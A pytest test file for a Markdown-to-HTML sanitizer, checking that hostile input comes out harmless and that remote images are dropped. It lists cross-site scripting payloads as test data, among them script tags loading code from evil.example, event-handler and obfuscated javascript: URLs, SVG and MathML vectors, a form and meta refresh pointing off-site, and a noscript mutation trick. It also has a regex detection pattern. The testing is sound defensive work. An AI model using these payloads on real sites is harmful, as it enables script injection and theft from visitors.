"""Hostile Markdown and HTML come out as harmless, valid HTML that loads nothing from elsewhere."""

from __future__ import annotations

import re

import pytest

from nashr.core.content import is_local_path, render_markdown, sanitize_html

# Whatever a hostile author writes, none of these may reach a reader's browser as markup
# (as text, "[x](javascript:…)" is harmless and may stay).
FORBIDDEN = re.compile(
    r"<script|<style|<iframe|<svg|<math|<object|<embed|<form|<input|<link|<meta|<base"
    r"|<[^>]*\son\w+\s*=|<[^>]*=\"\s*(javascript|data|vbscript):|<[^>]*(srcset|style)=",
    re.IGNORECASE,
)

HOSTILE = {
    "script": "<script>alert(1)</script>text",
    "script in markdown": "Hello\n\n<script src=https://evil.example/x.js></script>",
    "style element": "<style>body{background:url(https://evil.example/t)}</style>text",
    "style attribute": '<p style="background:url(https://evil.example/t)">text</p>',
    "onerror": '<img src="/a.png" onerror="alert(1)">',
    "onclick uppercase": '<a href="/x" ONCLICK="alert(1)">x</a>',
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript with entities": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript in markdown": "[x](javascript:alert(1))",
    "javascript with spaces": '<a href="  JAVASCRIPT:alert(1)">x</a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "data image": '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="x">',
    "data image markdown": "![x](data:image/png;base64,AAAA)",
    "iframe": '<iframe src="https://evil.example/"></iframe>text',
    "svg onload": "<svg onload=alert(1)><circle r=5 /></svg>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg use": '<svg><use href="https://evil.example/s.svg#a"/></svg>',
    "math xlink": "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "object and embed": '<object data="https://evil.example/x"></object><embed src="x.swf">',
    "form": '<form action="https://evil.example/"><input name=q></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "srcset": '<img src="/a.png" srcset="https://evil.example/a.png 2x" alt="a">',
}


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_input_is_neutralized(source: str) -> None:
    """No script, style, event handler, javascript:/data: URL or foreign element survives."""
    html = render_markdown(source)
    assert not FORBIDDEN.search(html), html
    assert "evil.example" not in html or "<a " in html, html


@pytest.mark.parametrize(
    "source",
    [
        "![tracker](https://evil.example/pixel.png)",
        '<img src="//evil.example/pixel.png" alt="">',
        '<img src="/\\evil.example/pixel.png" alt="">',
        '<img src="/&#9;/evil.example/pixel.png" alt="">',
        '<img src="/\n/evil.example/pixel.png" alt="">',
        '<img src="http://127.0.0.1.evil.example/pixel.png" alt="">',
    ],
)
def test_remote_images_are_dropped(source: str) -> None:
    """An image on another host (however its address is disguised) is removed entirely."""
    html = render_markdown(source)
    assert "<img" not in html
    assert "evil.example" not in html


def test_local_image_is_kept_with_alt_text() -> None:
    """An image on this site stays; one without alt text gets an empty one."""
    assert render_markdown("![Map of the march](/media/map.png)") == (
        '<p><img src="/media/map.png" alt="Map of the march"></p>\n'
    )
    assert sanitize_html('<img src="/media/a.png">') == '<img src="/media/a.png" alt="">'


@pytest.mark.parametrize(
    ("url", "local"),
    [
        ("/media/a.png", True),
        ("//evil.example/a.png", False),
        ("/\\evil.example/a.png", False),
        ("/\t/evil.example/a.png", False),
        (" /\r\n/evil.example/a.png", False),
        ("https://127.0.0.1/a.png", False),
        ("media/a.png", False),
    ],
)
def test_is_local_path(url: str, local: bool) -> None:
    """Only an absolute path on this site counts as local."""
    assert is_local_path(url) is local


def test_links_keep_their_text_when_their_address_is_removed() -> None:
    """A link whose address was unsafe becomes plain text: no <a> without href remains."""
    html = sanitize_html('<a href="javascript:alert(1)">read <b>this</b></a> now')
    assert html == "read <b>this</b> now"


def test_safe_links_get_noopener() -> None:
    """Links to other sites keep their address and get rel="noopener noreferrer"."""
    html = render_markdown("[report](https://example.org/report)")
    assert html == (
        '<p><a href="https://example.org/report" rel="noopener noreferrer">report</a></p>\n'
    )


def test_invalid_attribute_values_are_dropped() -> None:
    """Values that would make the page invalid HTML (dir, lang, sizes) are removed."""
    html = sanitize_html(
        '<p dir="sideways" lang="not a tag">a</p><p dir="RTL" lang="fa">b</p>'
        '<img src="/a.png" width="-4" height="10" alt="">'
        '<table><tr><td colspan="0" rowspan="2">c</td></tr></table>'
    )
    assert '<p>a</p><p dir="rtl" lang="fa">b</p>' in html
    assert '<img src="/a.png" alt="" height="10">' in html
    assert '<td rowspan="2">c</td>' in html


def test_first_level_heading_becomes_second_level() -> None:
    """The page's title is its only h1, so a body's # heading renders as h2."""
    assert render_markdown("# Demands\n\ntext") == "<h2>Demands</h2>\n<p>text</p>\n"


def test_escaped_text_stays_escaped() -> None:
    """Text that looks like markup after the second pass is still shown as text."""
    html = render_markdown("1 &lt; 2 and <b>&lt;script&gt;</b>")
    assert html == "<p>1 &lt; 2 and <b>&lt;script&gt;</b></p>\n"
